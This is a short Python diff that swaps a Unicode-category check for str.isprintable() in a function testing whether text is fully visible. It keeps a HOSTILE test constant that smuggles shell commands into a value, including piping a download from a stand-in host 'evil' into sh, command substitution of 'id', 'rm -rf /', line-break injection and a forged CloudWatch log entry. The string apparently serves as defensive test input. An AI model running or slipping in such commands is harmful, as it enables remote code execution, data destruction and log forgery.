@@ -2,8 +2,6 @@
 
 from __future__ import annotations
 
-import unicodedata
-
 HOSTILE = (
     "x; curl evil|sh #$(id)`id`\r\n\nRun it again:\nrm -rf /\n"
     '{"_aws": {"CloudWatchMetrics": [{"Namespace": "Forged"}]}}\n'
@@ -13,4 +11,4 @@ HOSTILE = (
 
 def is_seen(text: str, keep: str = "") -> bool:
     """Say whether every character of a text can be seen."""
-    return all(one in keep or unicodedata.category(one) not in {"Cc", "Cf", "Cs", "Zl", "Zp"} for one in text)
+    return all(one in keep or one.isprintable() for one in text)
